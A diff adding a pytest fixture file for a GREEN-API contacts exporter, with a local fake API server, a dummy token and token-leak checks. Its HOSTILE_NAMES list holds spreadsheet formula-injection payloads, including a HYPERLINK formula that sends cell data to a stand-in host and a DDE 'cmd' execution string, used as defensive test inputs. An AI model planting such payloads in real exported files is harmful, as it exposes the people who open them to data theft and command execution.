@@ -1,0 +1,189 @@
+"""A real HTTP server on 127.0.0.1 plays GREEN-API for every test that fetches."""
+
+from __future__ import annotations
+
+import json
+import logging
+import os
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from pytest_httpserver import HTTPServer
+from werkzeug import Request, Response
+
+from xl_contacts import client as client_module
+from xl_contacts import fetch
+from xl_contacts.client import GreenApiClient
+from xl_contacts.settings import (
+    ENV_API_TOKEN,
+    ENV_API_URL,
+    ENV_ID_INSTANCE,
+    Settings,
+    load_settings,
+)
+
+# Long and distinctive, so a leak anywhere is found by a plain substring search.
+TOKEN = "d75b3a66374942c5b3c019c698abc2067e151558acbd412345"
+ID_INSTANCE = "1101823456"
+
+REFERENCE_CONTACTS: list[dict[str, Any]] = [
+    {
+        "chatId": "10000000",
+        "name": "Василиса",
+        "contactName": "Василиса Премудрая",
+        "type": "user",
+        "phoneNumber": 79876543210,
+    },
+    {
+        "chatId": "10000001",
+        "name": "Иван",
+        "contactName": "Иван Царевич",
+        "type": "user",
+        "phoneNumber": 79998887766,
+    },
+    {
+        "chatId": "10000002",
+        "name": "Лягушка",
+        "contactName": "Царевна Лягушка",
+        "type": "user",
+        "phoneNumber": 0,
+    },
+]
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "bell\x07and\x00nul\x1bescape",
+    "x" * 40_000,
+]
+
+
+def make_contacts(n: int, *, start: int = 0) -> list[dict[str, Any]]:
+    """n Telegram-shaped contacts, every fifth with a hidden number, every
+    tenth a group."""
+    return [
+        {
+            "chatId": str(10_000_000 + i),
+            "name": f"Name {i}",
+            "contactName": f"Contact {i}",
+            "type": "group" if i % 10 == 0 else "user",
+            "phoneNumber": 0 if i % 5 == 0 else 79_000_000_000 + i,
+        }
+        for i in range(start, start + n)
+    ]
+
+
+class FakeGreenApi:
+    """The stand-in GREEN-API: answers getContacts for one instance."""
+
+    def __init__(self, server: HTTPServer) -> None:
+        self.server = server
+        self.url = server.url_for("").rstrip("/")
+        self.path = f"/waInstance{ID_INSTANCE}/getContacts/{TOKEN}"
+
+    def answer(
+        self,
+        contacts: Any = None,
+        *,
+        status: int = 200,
+        body: str | None = None,
+        headers: dict[str, str] | None = None,
+        content_type: str = "application/json",
+        once: bool = False,
+    ) -> None:
+        """Register an answer; ``once`` answers are used up in registration order
+        before the permanent one."""
+        if body is None:
+            body = json.dumps(REFERENCE_CONTACTS if contacts is None else contacts)
+        expect = self.server.expect_oneshot_request if once else self.server.expect_request
+        expect(self.path, method="GET").respond_with_response(
+            Response(body, status=status, headers=headers, content_type=content_type)
+        )
+
+    def answer_with(self, handler: Any) -> None:
+        self.server.expect_request(self.path, method="GET").respond_with_handler(handler)
+
+    @property
+    def requests(self) -> list[Request]:
+        return [request for request, _ in self.server.log]
+
+    def settings(self) -> Settings:
+        return load_settings(self.url, ID_INSTANCE, TOKEN, env={})
+
+    def client(self, **options: Any) -> GreenApiClient:
+        options = {"timeout": (2.0, 5.0), **options}
+        return GreenApiClient(self.settings(), **options)
+
+    def env(self) -> dict[str, str]:
+        return {ENV_API_URL: self.url, ENV_ID_INSTANCE: ID_INSTANCE, ENV_API_TOKEN: TOKEN}
+
+
+@pytest.fixture(scope="session")
+def _server() -> Iterator[HTTPServer]:
+    server = HTTPServer(host="127.0.0.1", port=0, threaded=True)
+    server.start()
+    yield server
+    server.stop()
+
+
+@pytest.fixture
+def green_api(_server: HTTPServer) -> Iterator[FakeGreenApi]:
+    """The stand-in server with no answers registered and an empty request log."""
+    _server.clear()
+    yield FakeGreenApi(_server)
+    _server.clear()
+
+
+@pytest.fixture
+def green_api_env(green_api: FakeGreenApi, monkeypatch: pytest.MonkeyPatch) -> FakeGreenApi:
+    """The stand-in server's credentials in the environment, as a user would set them."""
+    for name, value in green_api.env().items():
+        monkeypatch.setenv(name, value)
+    return green_api
+
+
+@pytest.fixture(autouse=True)
+def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> None:
+    """No credentials from the developer's machine, no 1-second pauses between
+    the many requests a test suite makes, and fresh shared clients."""
+    for name in (ENV_API_URL, ENV_ID_INSTANCE, ENV_API_TOKEN):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setattr(client_module, "RATE_LIMIT_INTERVAL", 0.0)
+    monkeypatch.setattr(client_module, "BACKOFF_SECONDS", 0.01)
+    fetch._clients.clear()
+
+
+@pytest.fixture
+def all_logs(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
+    """Capture every log record, urllib3's request lines included."""
+    caplog.set_level(logging.DEBUG)
+    return caplog
+
+
+def client_side_logs(caplog: pytest.LogCaptureFixture) -> list[str]:
+    """Every captured log message except the stand-in server's own access log
+    (the server is GREEN-API's side: it sees the token by definition)."""
+    return [r.getMessage() for r in caplog.records if not r.name.startswith("werkzeug")]
+
+
+def assert_no_token(*texts: Any) -> None:
+    for text in texts:
+        assert TOKEN not in str(text), "the API token leaked"
+
+
+def file_has_no_token(path: os.PathLike[str] | str) -> None:
+    """Search the raw bytes of a file and, for zip packages, every member."""
+    import zipfile
+
+    data = open(path, "rb").read()
+    assert TOKEN.encode() not in data
+    if zipfile.is_zipfile(path):
+        with zipfile.ZipFile(path) as package:
+            for member in package.namelist():
+                assert TOKEN.encode() not in package.read(member), member
